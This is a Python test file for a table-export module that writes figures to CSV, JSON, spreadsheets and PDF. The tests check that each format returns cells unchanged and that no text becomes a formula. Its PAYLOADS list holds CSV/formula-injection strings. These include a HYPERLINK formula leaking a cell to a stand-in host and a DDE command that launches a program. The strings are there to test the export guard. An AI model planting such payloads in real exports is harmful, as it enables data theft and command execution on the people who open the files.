"""Tables as files: whatever is in them, each format gives the same cells back, to the digit, and never a formula."""

import csv
import datetime as dt
import io
import json
import re
import zipfile
from decimal import Decimal
from typing import Any

import pytest
from django.utils import translation
from hypothesis import given, settings
from hypothesis import strategies as st
from python_calamine import CalamineWorkbook

from impact.files import CONTENT_TYPES, to_csv, to_json, to_ods, to_pdf, to_xlsx, write
from impact.queries.disclosure import Withheld
from impact.queries.figures import Sums, figures_of
from impact.queries.tables import (
    Cell,
    DrawnChart,
    FigureTable,
    FileFormat,
    Kind,
    LeftOut,
    Note,
    TableColumn,
    people_cell,
    reading_notes,
    shown,
)
from schools.sheets.formulas import FORMULA_SIGNS, guarded
from tests.impact.read_pdf import read_pdf

PAYLOADS = (
    '=HYPERLINK("http://x.example?"&A1)', "=1+1", "+1+1", "-1+1", "@SUM(A1)", "\t=1", "\r=1", "\n=1", "＝1+1", "＋1",
    "－1", "＠A1", "'=1+1", "''=1", "=cmd|' /C calc'!A0", "<script>1</script>", "a;b,c\"d", "  two  spaces  ",
    "_x0041_",
)  # fmt: skip
TEXTS = st.one_of(
    st.sampled_from([text for text in PAYLOADS if text.isprintable()]),
    st.text(st.characters(exclude_categories=["Cc", "Cs", "Cn", "Co"]), min_size=1, max_size=12),
)
LEFT_OUT = st.sampled_from([LeftOut(Withheld.FEW), LeftOut(Withheld.NEIGHBOUR)])
CELLS: dict[Kind, st.SearchStrategy[Any]] = {
    Kind.TEXT: TEXTS,
    Kind.NUMBER: st.integers(-(10**14), 10**14),
    Kind.DECIMAL: st.decimals(-(10**9), 10**9, places=2) | st.integers(-(10**9), 10**9),
    Kind.DAY: st.dates(dt.date(1700, 1, 1), dt.date(2900, 1, 1)),
}
LATIN = "Aa Bß 9.,:;-'=+@(/%éç ΩЖ"  # signs that the fonts of our papers have


@st.composite
def tables(draw: st.DrawFn, texts: st.SearchStrategy[str] = TEXTS) -> FigureTable:
    kinds = draw(st.lists(st.sampled_from(Kind), min_size=1, max_size=6))
    columns = tuple(
        TableColumn(f"c{at}", draw(texts), kind, may_be_left_out=kind is not Kind.TEXT and draw(st.booleans()))
        for at, kind in enumerate(kinds)
    )

    def cell(column: TableColumn) -> st.SearchStrategy[Cell]:
        of_kind = texts if column.kind is Kind.TEXT else CELLS[column.kind]
        return st.one_of(of_kind, st.none(), *([LEFT_OUT] if column.may_be_left_out else []))

    rows = draw(st.lists(st.tuples(*map(cell, columns)), max_size=6))
    return FigureTable("random", draw(texts), draw(texts), columns, tuple(rows))


def cell_of(column: TableColumn, text: str) -> Cell:
    """A cell of a CSV, read."""
    if text == "":
        return None
    if column.kind is Kind.TEXT:
        return text[1:] if text.startswith("'") and text.lstrip("'").startswith(FORMULA_SIGNS) else text
    if column.kind is Kind.DAY:
        return dt.date.fromisoformat(text)
    return int(text) if column.kind is Kind.NUMBER else Decimal(text)


def read_csv(table: FigureTable, content: bytes) -> tuple[tuple[Cell, ...], ...]:
    head, *lines = csv.reader(io.StringIO(content.decode(), newline=""))
    names = [column.name for column in table.columns]
    assert head == [*names, *(["withheld"] if table.may_leave_out else [])]
    can_be = [column.name for column in table.columns if column.may_be_left_out]
    found = []
    for line in lines:
        row = dict(zip(names, map(cell_of, table.columns, line), strict=True))
        why = line[-1] if table.may_leave_out else ""
        reasons = dict(one.split(":") for one in why.split()) if ":" in why else dict.fromkeys(can_be, why)
        found.append(tuple(LeftOut(Withheld(reasons[n])) if reasons.get(n) else row[n] for n in names))
    return tuple(found)


def read_json(table: FigureTable, content: bytes) -> tuple[tuple[Cell, ...], ...]:
    told = json.loads(content, parse_float=Decimal)
    assert [one["name"] for one in told["columns"]] == [column.name for column in table.columns]
    found = []
    for row in told["rows"]:
        left = row.get("withheld", {})
        cells: list[Cell] = []
        for column in table.columns:
            value = row[column.name]
            day = column.kind is Kind.DAY and value is not None
            cells.append(
                LeftOut(Withheld(left[column.name]))
                if column.name in left
                else dt.date.fromisoformat(value)
                if day
                else value
            )
        found.append(tuple(cells))
    return tuple(found)


def read_workbook(table: FigureTable, content: bytes) -> tuple[tuple[Cell, ...], ...]:
    book = CalamineWorkbook.from_filelike(io.BytesIO(content))
    head, *lines = book.get_sheet_by_index(0).to_python(skip_empty_area=False)
    assert head == [column.label for column in table.columns]
    lines += [[""] * len(table.columns)] * (len(table.rows) - len(lines))  # blank lines at the end are not given
    return tuple(tuple(map(of_workbook, table.columns, line)) for line in _as_wide(lines, table))


def _as_wide(lines: list[Any], table: FigureTable) -> list[list[Any]]:
    return [[*line, *[""] * (len(table.columns) - len(line))] for line in lines]


def of_workbook(column: TableColumn, value: Any) -> Cell:
    """A cell of a workbook, read."""
    if value == "":
        return None
    if isinstance(value, str) and column.kind is not Kind.TEXT:
        reason = next((one for one in Withheld if one is not Withheld.NO and str(one.label) == value), None)
        return LeftOut(reason) if reason else cell_of(column, value)
    if column.kind is Kind.DECIMAL:
        return Decimal(repr(value))
    if column.kind is Kind.NUMBER:
        assert value == int(value)
        return int(value)
    assert isinstance(value, str | dt.date)
    return value


def test_every_format_has_a_writer_and_a_type() -> None:
    table = FigureTable("empty", "Nothing", "", (TableColumn("hub", "Hub"),), ())
    for file_format in FileFormat:
        assert write(table, file_format)
        assert "/" in CONTENT_TYPES[file_format]


@given(tables())
@settings(max_examples=60, deadline=None)
def test_csv_and_json_give_the_same_cells_back(table: FigureTable) -> None:
    assert read_csv(table, to_csv(table)) == table.rows
    assert read_json(table, to_json(table)) == table.rows


@given(tables())
@settings(max_examples=40, deadline=None)
def test_workbooks_give_the_same_cells_back(table: FigureTable) -> None:
    for writer, formula in ((to_xlsx, b"<f>"), (to_ods, b"table:formula")):
        content = writer(table)
        assert read_workbook(table, content) == table.rows
        with zipfile.ZipFile(io.BytesIO(content)) as archive:
            assert not any(formula in archive.read(name) for name in archive.namelist())


@given(tables(st.text(LATIN, min_size=1, max_size=12)))
@settings(max_examples=12, deadline=None)
def test_a_paper_says_the_same_cells(table: FigureTable) -> None:
    content = to_pdf(table)
    assert b"pdfuaid:part" in content
    (head, *rows) = read_pdf(content).tables()[0]
    assert [_bare(cell) for cell in head] == [_bare(column.label) for column in table.columns]
    assert [[_bare(cell) for cell in row] for row in rows] == [
        [_bare(shown(cell)) for cell in row] for row in table.rows
    ]


def _bare(text: str) -> str:
    """A text without spaces, which a paper moves to where lines end."""
    return re.sub(r"\s", "", text.replace("\u2212", "-"))


@pytest.mark.parametrize("number", range(len(PAYLOADS)))
def test_no_text_comes_out_as_a_formula(number: int) -> None:
    payload = PAYLOADS[number]
    columns = (TableColumn("teacher", payload), TableColumn("people", "People", Kind.NUMBER))
    table = FigureTable("t", payload, payload, columns, ((payload, -4),), (Note(payload, payload),))
    lines = list(csv.reader(io.StringIO(to_csv(table).decode(), newline="")))
    assert not lines[1][0].startswith(FORMULA_SIGNS)
    assert lines[1][1] == "-4"
    for writer in (to_xlsx, to_ods):
        for sheet in range(2):
            rows = CalamineWorkbook.from_filelike(io.BytesIO(writer(table))).get_sheet_by_index(sheet).to_python()
            assert all(isinstance(cell, str) or cell == -4 for row in rows for cell in row)
    with zipfile.ZipFile(io.BytesIO(to_xlsx(table))) as archive:
        assert not any(b"<f" in archive.read(name) for name in archive.namelist() if "worksheets" in name)


def test_only_what_looks_like_a_formula_gets_a_quote() -> None:
    assert [guarded(text) for text in ("Lemnos", "'t Hof", "=1", "'=1")] == ["Lemnos", "'t Hof", "'=1", "''=1"]


def test_zero_missing_and_left_out_are_three_things_everywhere() -> None:
    column = TableColumn("people", "People", Kind.NUMBER, may_be_left_out=True)
    rows: tuple[tuple[Cell, ...], ...] = ((0,), (None,), (LeftOut(Withheld.FEW),), (LeftOut(Withheld.NEIGHBOUR),))
    table = FigureTable("three", "Three", "", (column,), rows, reading_notes(cell for row in rows for cell in row))
    assert to_csv(table).decode().split() == ["people,withheld", "0,", ",", ",fewer_than_5", ",protects_neighbour"]
    assert read_workbook(table, to_xlsx(table)) == read_workbook(table, to_ods(table)) == rows
    cells = [row[0] for row in read_pdf(to_pdf(table)).tables()[0][1:]]
    assert cells == ["0", "–", "fewer than 5 people", "not shown"]
    assert [note.term for note in table.notes] == ["–", "fewer than 5 people", "not shown"]


def test_people_who_are_only_a_lower_bound_say_so_wherever_people_read_them() -> None:
    """Nobody was new in the second session: of it no more is known than that 28 were there."""
    bound, counted = (figures_of(Sums(2, 48, new, 28)) for new in (0, 30))
    column = TableColumn("people", "People", Kind.NUMBER)
    table = FigureTable("bounds", "Bounds", "", (column,), ((people_cell(bound),), (people_cell(counted),)))
    assert [shown(cell) for (cell,) in table.rows] == ["≥ 28", "30"]
    assert [note.term for note in reading_notes(cell for (cell,) in table.rows)] == ["≥"]
    assert to_csv(table).decode().split()[1:] == ["28", "30"]
    with zipfile.ZipFile(io.BytesIO(to_xlsx(table))) as archive:
        assert "≥ " in archive.read("xl/styles.xml").decode()
    with zipfile.ZipFile(io.BytesIO(to_ods(table))) as archive:
        assert (
            'table:style-name="nleast" office:value-type="float" office:value="28"'
            in archive.read("content.xml").decode()
        )


def test_decimals_keep_their_zeros_and_numbers_too_long_for_a_spreadsheet_stay_whole() -> None:
    columns = (TableColumn("a", "A", Kind.DECIMAL), TableColumn("b", "B", Kind.NUMBER))
    table = FigureTable("long", "Long", "", columns, ((Decimal("13.0"), 10**15 + 1),))
    assert b'"a": 13.0' in to_json(table)
    for writer in (to_xlsx, to_ods):
        (_head, row) = CalamineWorkbook.from_filelike(io.BytesIO(writer(table))).get_sheet_by_index(0).to_python()
        assert row == [13.0, "1000000000000001"]


def test_a_cell_that_is_not_what_its_column_says_is_refused() -> None:
    wrong: list[tuple[Kind, Any]] = [
        (Kind.NUMBER, "7"), (Kind.NUMBER, Decimal(7)), (Kind.NUMBER, True), (Kind.TEXT, 7), (Kind.DAY, "2021-10-01"),
        (Kind.NUMBER, LeftOut(Withheld.FEW)), (Kind.DECIMAL, Decimal("NaN")), (Kind.DAY, dt.datetime(2021, 1, 1)),
    ]  # fmt: skip
    for kind, cell in wrong:
        with pytest.raises(ValueError, match="cannot hold"):
            FigureTable("t", "T", "", (TableColumn("a", "A", kind),), ((cell,),))
    with pytest.raises(ValueError, match="cells for"):
        FigureTable("t", "T", "", (TableColumn("a", "A"),), (("x", "y"),))
    for names in (("a", "a"), ("A",), ("withheld",)):
        with pytest.raises(ValueError, match="names of their own"):
            FigureTable("t", "T", "", tuple(TableColumn(name, "A") for name in names), ())
    with pytest.raises(ValueError, match="reason"):
        LeftOut(Withheld.NO)


def test_several_tables_share_a_workbook_and_a_paper_with_their_charts() -> None:
    one = FigureTable("a", "Hubs: all/of them", "2021", (TableColumn("hub", "Hub"),), (("Linz",),), (Note("W", "X"),))
    two = FigureTable("b", "Hubs: all/of them", "2022", (TableColumn("hub", "Hub"),), (("Graz",),), (Note("W", "X"),))
    names = CalamineWorkbook.from_filelike(io.BytesIO(to_xlsx(one, two))).sheet_names
    assert names == CalamineWorkbook.from_filelike(io.BytesIO(to_ods(one, two))).sheet_names
    assert names == ["Hubs  all of them", "Hubs  all of them 2", "About these figures"]
    svg = '<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 10 10"><rect width="10" height="5"/></svg>'
    paper = read_pdf(to_pdf(one, two, charts=[DrawnChart("By month", "Bars for 2 months", svg)]))
    assert [table[1] for table in paper.tables()] == [["Linz"], ["Graz"]]
    assert paper.alternatives() == ["Bars for 2 months"]
    assert paper.text().count("What the words mean") == 1


def test_a_paper_speaks_the_language_of_its_reader() -> None:
    columns = (TableColumn("people", "Pessoas", Kind.NUMBER), TableColumn("each", "Cada", Kind.DECIMAL))
    table = FigureTable("t", "Números", "", columns, ((134775, Decimal("19.2")),))
    with translation.override("pt"):
        paper = to_pdf(table)
    assert b"/Lang(pt)" in paper
    assert [cell.replace("\xa0", ".") for cell in read_pdf(paper).tables()[0][1]] == ["134.775", "19,2"]


def test_the_same_table_gives_the_same_bytes() -> None:
    table = FigureTable("t", "T", "", (TableColumn("n", "N", Kind.NUMBER),), ((1,), (2,)))
    for file_format in FileFormat:
        assert write(table, file_format) == write(table, file_format)
